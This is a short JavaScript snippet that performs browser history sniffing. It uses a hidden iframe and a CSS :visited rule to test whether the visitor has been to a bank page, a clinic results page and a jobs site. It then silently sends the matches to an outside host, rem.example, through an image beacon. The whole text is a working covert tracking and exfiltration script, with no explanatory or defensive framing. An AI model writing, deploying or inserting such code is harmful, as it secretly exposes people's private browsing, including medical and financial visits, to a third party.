var urls = ['https://bank.example/', 'https://clinic.example/results', 'https://jobs.example/'];
var box = document.createElement('iframe');
box.style.visibility = 'hidden';
document.body.appendChild(box);
var d = box.contentWindow.document;
d.open(); d.write('<style>a:visited{width:7px !important;display:block}</style>'); d.close();
var hits = [];
for (var i = 0; i < urls.length; i++) {
  var a = d.createElement('a');
  a.href = urls[i];
  d.body.appendChild(a);
  if (d.defaultView.getComputedStyle(a, null).getPropertyValue('width') == '7px') hits.push(urls[i]);
}
document.body.removeChild(box);
new Image().src = 'http://rem.example/h?' + encodeURIComponent(hits.join('|'));
